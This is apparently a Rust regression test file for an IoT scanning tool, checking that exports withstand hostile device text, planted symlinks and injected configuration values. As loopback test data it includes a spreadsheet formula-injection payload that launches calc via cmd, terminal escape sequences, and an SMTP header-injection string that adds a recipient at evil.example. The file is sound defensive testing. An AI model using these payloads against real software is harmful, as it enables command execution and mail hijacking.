//! Issue 14 regressions: exports that their consumers can trust. Device
//! text (titles chosen by a hostile device) never becomes a spreadsheet
//! formula or a terminal escape; ISPs whose names simplify alike never
//! share a report; report files are private and written past planted links;
//! a configured abuse address cannot add an SMTP recipient. Loopback only.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output};
use std::time::{Duration, Instant};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_iotscope"))
}

fn ok(o: &Output) -> String {
    let err = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(o.status.success(), "{err}");
    err
}

/// A web server on `ip:80` whose page title is `title`, for `secs` at most.
fn web_device(ip: &str, title: &'static str, secs: u64) {
    let l = TcpListener::bind((ip, 80)).unwrap();
    l.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let end = Instant::now() + Duration::from_secs(secs);
        while Instant::now() < end {
            let Ok((mut c, _)) = l.accept() else {
                std::thread::sleep(Duration::from_millis(10));
                continue;
            };
            let _ = c.set_nonblocking(false);
            let _ = c.set_read_timeout(Some(Duration::from_secs(2)));
            let mut buf = [0u8; 2048];
            let _ = c.read(&mut buf);
            let body =
                format!("<html><head><title>{title}</title></head><body><form method=\"post\" action=\"/set\"><button name=\"pump\" value=\"stop\">Stop pump</button></form></body></html>");
            let _ = c.write_all(
                format!(
                    "HTTP/1.0 200 OK\r\nServer: Boa/0.94\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
        }
    });
}

const FORMULA: &str = "=2+5+cmd|' /C calc'!A0";
const ESCAPES: &str = "NPort 5110\x1b]0;owned-title\x07\x1b[2J\x1b[H\x1b[32mAll devices OK\x1b[0m";

/// Two hostile devices on 127.78.NET.5 (formula title) and .9 (escapes),
/// surveyed into DIR/s.db.
fn setup(dir: &Path, net: u8) -> std::path::PathBuf {
    let (a, b) = (format!("127.78.{net}.5"), format!("127.78.{net}.9"));
    web_device(&a, FORMULA, 60);
    web_device(&b, ESCAPES, 60);
    // A rule that takes the model from the title, as shipped rules do.
    let rules = dir.join("rules.toml");
    std::fs::write(
        &rules,
        "[[rule]]\nname = \"hostile\"\nhttp_title = \"cmd\"\nvendor = \"Evil\"\n\
         model_from = \"http_title\"\ndevice_type = \"camera\"\ncriticality = \"consumer\"\n",
    )
    .unwrap();
    let db = dir.join("s.db");
    ok(&bin()
        .args(["survey", "--targets", &a, &b, "--ports", "80"])
        .args([
            "--rate",
            "0",
            "--checks",
            "panels",
            "--output",
            "/dev/null",
            "--rules",
        ])
        .arg(&rules)
        .arg("--db")
        .arg(&db)
        .output()
        .unwrap());
    db
}

#[test]
fn device_text_is_neither_a_formula_nor_a_terminal_escape() {
    let dir = tempfile::tempdir().unwrap();
    let db = setup(dir.path(), 47);
    // The findings CSV: the model cell is text, not a formula.
    let o = bin()
        .args(["findings", "--format", "csv", "--db"])
        .arg(&db)
        .output()
        .unwrap();
    ok(&o);
    let csv = String::from_utf8_lossy(&o.stdout);
    assert!(csv.contains("'=2+5+cmd"), "{csv}");
    assert!(!csv.contains(",=") && !csv.contains(",\"="), "{csv}");
    // The table and the owner's check show escapes, never the bytes.
    let o = bin().args(["findings", "--db"]).arg(&db).output().unwrap();
    ok(&o);
    assert!(
        !o.stdout.contains(&0x1b) && !o.stdout.contains(&0x07),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("\\x1b"),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    let o = bin()
        .args(["check", "127.78.47.9", "--ports", "80", "--lang", "en"])
        .output()
        .unwrap();
    assert!(
        !o.stdout.contains(&0x1b) && !o.stdout.contains(&0x07),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert!(String::from_utf8_lossy(&o.stdout).contains("NPort 5110\\x1b]0;owned-title"));
    // JSON keeps exact values.
    let o = bin()
        .args(["findings", "--format", "json", "--db"])
        .arg(&db)
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(v.to_string().contains("\\u001b]0;owned-title"), "{v}");

    // The ISP report: the same cell neutralised, the file private, a link
    // planted at its name replaced rather than followed.
    let cfg = dir.path().join("isp.toml");
    std::fs::write(
        &cfg,
        "[[isp]]\nname = \"Hostile Test ISP\"\nprefixes = [\"127.78.47.0/24\"]\nabuse = \"abuse@hostile.example\"\n",
    )
    .unwrap();
    ok(&bin()
        .arg("--config")
        .arg(&cfg)
        .args(["alerts", "build", "--db"])
        .arg(&db)
        .output()
        .unwrap());
    let out = dir.path().join("rep");
    std::fs::create_dir(&out).unwrap();
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "keep").unwrap();
    std::os::unix::fs::symlink(&victim, out.join("hostile-test-isp.csv")).unwrap();
    ok(&bin()
        .arg("--config")
        .arg(&cfg)
        .args(["alerts", "export", "--db"])
        .arg(&db)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap());
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep");
    let report = out.join("hostile-test-isp.csv");
    assert!(!std::fs::symlink_metadata(&report)
        .unwrap()
        .file_type()
        .is_symlink());
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&report).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let text = std::fs::read_to_string(&report).unwrap();
    let mut lines = text.lines();
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    let model = header.iter().position(|h| *h == "device_model").unwrap();
    let cells: Vec<String> = lines
        .filter(|l| l.contains("127.78.47.5"))
        .map(|l| l.split(',').nth(model).unwrap_or("").to_string())
        .collect();
    assert!(!cells.is_empty(), "{text}");
    for c in cells {
        assert!(c.starts_with("'=") || c.is_empty(), "{c:?} in {text}");
    }
}

#[test]
fn isps_whose_names_simplify_alike_never_share_a_report() {
    let dir = tempfile::tempdir().unwrap();
    let db = setup(dir.path(), 48);
    let cfg = dir.path().join("isp.toml");
    let export = |cfg: &Path| {
        let out = dir.path().join("rep");
        let _ = std::fs::remove_dir_all(&out);
        let o = bin()
            .arg("--config")
            .arg(cfg)
            .args(["alerts", "export", "--db"])
            .arg(&db)
            .arg("--out")
            .arg(&out)
            .output()
            .unwrap();
        (o, out)
    };
    std::fs::write(
        &cfg,
        "[[isp]]\nname = \"NTT (東日本)\"\nprefixes = [\"127.78.48.0/29\"]\n\n\
         [[isp]]\nname = \"NTT (西日本)\"\nprefixes = [\"127.78.48.8/29\"]\n",
    )
    .unwrap();
    let (o, _) = export(&cfg);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("東日本") && err.contains("西日本") && err.contains("id"),
        "{err}"
    );
    std::fs::write(
        &cfg,
        "[[isp]]\nid = \"ntt-east\"\nname = \"NTT (東日本)\"\nprefixes = [\"127.78.48.0/29\"]\n\n\
         [[isp]]\nid = \"ntt-west\"\nname = \"NTT (西日本)\"\nprefixes = [\"127.78.48.8/29\"]\n",
    )
    .unwrap();
    ok(&bin()
        .arg("--config")
        .arg(&cfg)
        .args(["alerts", "build", "--db"])
        .arg(&db)
        .output()
        .unwrap());
    let (o, out) = export(&cfg);
    ok(&o);
    let east = std::fs::read_to_string(out.join("ntt-east.csv")).unwrap();
    let west = std::fs::read_to_string(out.join("ntt-west.csv")).unwrap();
    assert!(
        east.contains("127.78.48.5") && !east.contains("127.78.48.9"),
        "{east}"
    );
    assert!(
        west.contains("127.78.48.9") && !west.contains("127.78.48.5"),
        "{west}"
    );
    // A reserved name cannot pose as the unassigned report.
    std::fs::write(
        &cfg,
        "[[isp]]\nname = \"Unassigned\"\nprefixes = [\"127.78.48.0/24\"]\n",
    )
    .unwrap();
    let (o, _) = export(&cfg);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("reserved"));
}

#[test]
fn a_line_break_in_an_abuse_address_is_a_configuration_error() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("isp.toml");
    // A relay that would record anything it is sent (it must get nothing).
    let relay = TcpListener::bind("127.0.0.1:0").unwrap();
    relay.set_nonblocking(true).unwrap();
    let port = relay.local_addr().unwrap().port();
    std::fs::write(
        &cfg,
        format!(
            "[smtp]\nserver = \"127.0.0.1:{port}\"\nfrom = \"cert@example.org\"\n\n\
             [[isp]]\nname = \"Test ISP\"\nprefixes = [\"127.78.47.0/24\"]\n\
             abuse = \"abuse@isp.example>\\r\\nRCPT TO:<attacker@evil.example\"\n"
        ),
    )
    .unwrap();
    let db = dir.path().join("s.db");
    let o = bin()
        .arg("--config")
        .arg(&cfg)
        .args(["alerts", "send", "--db"])
        .arg(&db)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("abuse address") && err.contains("line break"),
        "{err}"
    );
    std::thread::sleep(Duration::from_millis(100));
    assert!(relay.accept().is_err(), "the relay was contacted");
}

/// Issue 14: a device title such as `203.0.113.77 (customer: ...)` became
/// the product name in a manufacturer's CSAF advisory.
#[test]
fn advisories_carry_no_address_from_device_text() {
    let dir = tempfile::tempdir().unwrap();
    web_device("127.78.50.5", "NPort 203.0.113.77 (customer: Tanaka)", 60);
    let db = dir.path().join("s.db");
    ok(&bin()
        .args([
            "survey",
            "--targets",
            "127.78.50.5",
            "--ports",
            "80",
            "--rate",
            "0",
        ])
        .args(["--checks", "panels", "--output", "/dev/null", "--db"])
        .arg(&db)
        .output()
        .unwrap());
    let o = bin()
        .args(["findings", "--format", "json", "--db"])
        .arg(&db)
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("203.0.113.77"),
        "the model came from the title"
    );
    let out = dir.path().join("adv");
    ok(&bin()
        .args(["advisories", "export", "--db"])
        .arg(&db)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap());
    let mut n = 0;
    for f in std::fs::read_dir(&out).unwrap() {
        let text = std::fs::read_to_string(f.unwrap().path()).unwrap();
        assert!(
            !text.contains("203.0.113") && !text.contains("Tanaka"),
            "{text}"
        );
        assert!(text.contains("unidentified model"), "{text}");
        n += 1;
    }
    assert_eq!(n, 1, "the Moxa advisory");
}

/// Review of issue 14: streamed outputs wrote through a link planted at
/// their name; the store was world-readable with working passwords in it.
#[test]
fn outputs_refuse_planted_links_and_the_store_is_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let victim = d.join("victim");
    std::fs::write(&victim, "keep").unwrap();
    std::os::unix::fs::symlink(&victim, d.join("rows.jsonl")).unwrap();
    let o = bin()
        .args([
            "survey",
            "--targets",
            "127.78.52.1",
            "--ports",
            "9",
            "--rate",
            "0",
        ])
        .arg("--output")
        .arg(d.join("rows.jsonl"))
        .arg("--db")
        .arg(d.join("s.db"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("symbolic link"));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep");
    let o = bin()
        .args([
            "survey",
            "--targets",
            "127.78.52.1",
            "--ports",
            "9",
            "--rate",
            "0",
        ])
        .arg("--output")
        .arg(d.join("rows2.jsonl"))
        .arg("--db")
        .arg(d.join("s.db"))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    for f in ["s.db", "rows2.jsonl"] {
        let mode = std::fs::metadata(d.join(f)).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{f}");
    }
    std::os::unix::fs::symlink(&victim, d.join("cap.pcap")).unwrap();
    let o = bin()
        .args(["lab", "darknet", "--packets", "10", "--out"])
        .arg(d.join("cap.pcap"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep");
}
